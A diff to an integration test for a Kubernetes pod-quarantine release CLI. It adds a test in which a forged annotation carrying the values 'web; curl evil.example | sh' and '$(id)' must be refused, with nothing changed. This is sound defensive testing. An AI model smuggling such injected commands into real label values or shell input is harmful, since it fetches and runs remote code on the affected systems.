@@ -11,6 +11,8 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { parseContainmentRequest } from '../../shared/containment.js';
 import { CORDONED_LABEL, QUARANTINE_LABEL, networkPolicyName } from '../../shared/labels.js';
 import { containPodIn } from '../../functions/isolate-pod/contain.js';
+import { DETACHED_LABELS_ANNOTATION } from '../../functions/isolate-pod/annotations.js';
+import { MERGE_PATCH } from '../../functions/isolate-pod/kube.js';
 import { undoPodQuarantine, UndoError } from '../../functions/isolate-pod/undo.js';
 import { adminKubeConfig, statusOf } from './k8s-helpers.js';
 import { integrationEnv, uniqueName } from './test-env.js';
@@ -66,6 +68,24 @@ async function quarantinedPod() {
   return { namespace, node, pod };
 }
 
+const ROOT = join(import.meta.dirname, '..', '..');
+
+/** `npm run release -- eks <target>` with the test cluster's admin kubeconfig. */
+const releaseCli = (target: string) =>
+  spawnSync(
+    process.execPath,
+    [
+      '--import',
+      'tsx',
+      'scripts/release.ts',
+      'eks',
+      target,
+      '--kubeconfig',
+      integrationEnv().KUBECONFIG,
+    ],
+    { cwd: ROOT, encoding: 'utf8' },
+  );
+
 describe('release eks', () => {
   it('removes the NetworkPolicy and the label, and uncordons the node it cordoned', async () => {
     const { namespace, node, pod } = await quarantinedPod();
@@ -91,30 +111,46 @@ describe('release eks', () => {
 
   it('the CLI does the same with the kubeconfig it is given', async () => {
     const { namespace, pod } = await quarantinedPod();
-    const root = join(import.meta.dirname, '..', '..');
-    const run = spawnSync(
-      process.execPath,
-      [
-        '--import',
-        'tsx',
-        'scripts/release.ts',
-        'eks',
-        `${namespace}/${pod}`,
-        '--kubeconfig',
-        integrationEnv().KUBECONFIG,
-      ],
-      {
-        cwd: root,
-        encoding: 'utf8',
-      },
-    );
+    const run = releaseCli(`${namespace}/${pod}`);
     expect(run.status, run.stderr).toBe(0);
     expect(run.stdout).toContain(`released ${namespace}/${pod}`);
     const refused = spawnSync(
       process.execPath,
       ['--import', 'tsx', 'scripts/release.ts', 'eks', 'Bad_Name/x'],
-      { cwd: root, encoding: 'utf8' },
+      { cwd: ROOT, encoding: 'utf8' },
     );
     expect(refused.status).toBe(2);
+  });
+
+  it('a forged detached-labels record: the CLI refuses, says why, and changes nothing', async () => {
+    const { namespace, node, pod } = await quarantinedPod();
+    const record = '{"app":"web; curl evil.example | sh","$(id)":"x"}';
+    await core.patchNamespacedPod(
+      {
+        name: pod,
+        namespace,
+        body: { metadata: { annotations: { [DETACHED_LABELS_ANNOTATION]: record } } },
+      },
+      MERGE_PATCH,
+    );
+    const run = releaseCli(`${namespace}/${pod}`);
+    expect(run.status, run.stderr).toBe(1);
+    expect(run.stderr).toContain(
+      `release: pod ${namespace}/${pod}: the detached-labels record on the pod is invalid (label value "web; curl evil.example | sh" is invalid): restore the pod's labels by hand, remove the annotation ${DETACHED_LABELS_ANNOTATION} and run release again (nothing was changed)`,
+    );
+    expect(run.stderr).not.toMatch(/^\s+at /m);
+    expect(run.stdout).toBe('');
+
+    const after = await core.readNamespacedPod({ name: pod, namespace });
+    const uid = after.metadata!.uid!;
+    expect(after.metadata?.labels?.[QUARANTINE_LABEL]).toBe(uid);
+    expect(after.metadata?.labels?.app).toBe('web');
+    expect(
+      await statusOf(
+        networking.readNamespacedNetworkPolicy({ name: networkPolicyName(uid), namespace }),
+      ),
+    ).toBe(200);
+    expect((await core.readNode({ name: node })).spec?.unschedulable).toBe(true);
+    await expect(undoPodQuarantine(admin(), namespace, pod)).rejects.toThrow(UndoError);
   });
 });
